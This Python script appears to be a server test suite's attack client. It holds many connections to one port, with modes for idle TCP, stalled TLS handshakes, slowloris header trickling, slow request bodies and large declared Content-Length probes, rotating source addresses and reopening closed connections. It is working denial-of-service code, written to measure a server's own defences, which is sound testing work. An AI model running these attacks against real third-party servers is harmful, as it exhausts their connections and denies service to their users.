#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""The attack client of tests/attack: holds many connections to one port for a bounded time.

Modes (each connection from the next source address of --sources, round robin):
  hold      connect and send nothing (idle TCP, idle TLS handshakes)
  tls       send the first 5 bytes of a TLS record header, then nothing
  headers   slowloris: a request line, then one more header byte every --interval s
  body      a whole header declaring --length bytes of body, then one body byte every --interval s
  declare   one request per --length value, headers only: prints the status and the time it took
With --reopen a connection the server closed is opened again at once (the attack keeps its
pressure); without, it stays closed. At the end it prints one JSON line: connections opened,
closed by the server (and how long they had lived: max and median), refused at connect, the
most held open at once.
"""
import argparse
import errno
import ipaddress
import json
import resource
import selectors
import socket
import sys
import time


def sources(spec):
    if "-" not in spec:
        return [spec]
    a, b = spec.split("-")
    lo, hi = int(ipaddress.ip_address(a)), int(ipaddress.ip_address(b))
    return [str(ipaddress.ip_address(i)) for i in range(lo, hi + 1)]


class Conn:
    def __init__(self, sock, src):
        self.sock = sock
        self.src = src
        self.t0 = time.monotonic()
        self.sent = 0
        self.next_send = 0.0
        self.connected = False


def request_head(a):
    lines = [f"{a.method} {a.path} HTTP/1.1", f"Host: {a.host}:{a.port}"]
    lines += a.header
    return lines


def first_bytes(a):
    if a.mode == "tls":
        return b"\x16\x03\x01\x02\x00"  # a handshake record of 512 bytes that never comes
    if a.mode == "headers":
        return (request_head(a)[0] + "\r\n").encode()
    if a.mode == "body":
        head = request_head(a) + [f"Content-Length: {a.length[0]}"]
        return ("\r\n".join(head) + "\r\n\r\n").encode()
    return b""


def trickle(a, c):
    """The next slow byte: more header for slowloris, more body for a slow body."""
    if a.mode == "headers":
        text = ("X-Slow-%d: " % c.sent) if c.sent % 8 == 0 else "a"
        if c.sent % 8 == 7:
            text = "a\r\n"
        return text.encode()
    if a.mode == "body":
        return b"x"
    return b""


def declare(a):
    """One request per declared length, headers only: how fast does the refusal come?"""
    out = []
    for n in a.length:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((sources(a.sources)[0], 0))
        s.settimeout(a.seconds)
        s.connect((a.host, a.port))
        head = request_head(a) + [f"Content-Length: {n}"]
        t0 = time.monotonic()
        s.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        data = b""
        try:
            while b"\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
        except socket.timeout:
            pass
        line = data.split(b"\r\n")[0].decode(errors="replace")
        status = int(line.split()[1]) if line.startswith("HTTP/") else 0
        out.append({"length": n, "status": status, "seconds": round(time.monotonic() - t0, 3)})
        s.close()
    print(json.dumps({"declare": out}), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["hold", "tls", "headers", "body", "declare"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=100)
    p.add_argument("--sources", default="127.0.0.2", help="ADDR or FIRST-LAST")
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--reopen", action="store_true")
    p.add_argument("--method", default="POST")
    p.add_argument("--path", default="/v1/reports")
    p.add_argument("--header", action="append", default=[])
    p.add_argument("--length", type=int, action="append", default=[])
    p.add_argument("--ready", help="file written once every connection was opened once")
    a = p.parse_args()
    if not a.length:
        a.length = [1000]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if a.mode == "declare":
        declare(a)
        return
    srcs = sources(a.sources)
    sel = selectors.DefaultSelector()
    conns = {}
    stats = {"opened": 0, "closed_by_server": 0, "refused": 0, "max_open": 0, "lifetimes": []}
    first = first_bytes(a)
    n_src = 0

    def open_one():
        nonlocal n_src
        src = srcs[n_src % len(srcs)]
        n_src += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((src, 0))
            err = s.connect_ex((a.host, a.port))
        except OSError:
            s.close()
            stats["refused"] += 1
            return
        if err not in (0, errno.EINPROGRESS):
            s.close()
            stats["refused"] += 1
            return
        c = Conn(s, src)
        conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
        stats["opened"] += 1

    def drop(c, by_server):
        sel.unregister(c.sock)
        del conns[c.sock.fileno()]
        c.sock.close()
        if by_server:
            stats["closed_by_server"] += 1
            stats["lifetimes"].append(time.monotonic() - c.t0)

    for _ in range(a.conns):
        open_one()
    if a.ready:
        open(a.ready, "w").close()
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        now = time.monotonic()
        for key, ev in sel.select(timeout=0.05):
            c = key.data
            if ev & selectors.EVENT_WRITE and not c.connected:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    drop(c, False)
                    stats["refused"] += 1
                    continue
                c.connected = True
                sel.modify(c.sock, selectors.EVENT_READ, c)
                try:
                    if first:
                        c.sock.send(first)
                except OSError:
                    drop(c, True)
                    continue
                c.next_send = now + a.interval
                continue
            if ev & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    drop(c, True)
        for c in list(conns.values()):
            if c.connected and a.mode in ("headers", "body") and now >= c.next_send:
                c.next_send = now + a.interval
                try:
                    c.sock.send(trickle(a, c))
                    c.sent += 1
                except OSError:
                    drop(c, True)
        stats["max_open"] = max(stats["max_open"], len(conns))
        if a.reopen:
            for _ in range(a.conns - len(conns)):
                open_one()
    for c in list(conns.values()):
        drop(c, False)
    life = sorted(stats.pop("lifetimes"))
    stats["lifetime_max_s"] = round(life[-1], 3) if life else 0
    stats["lifetime_median_s"] = round(life[len(life) // 2], 3) if life else 0
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    sys.exit(main())
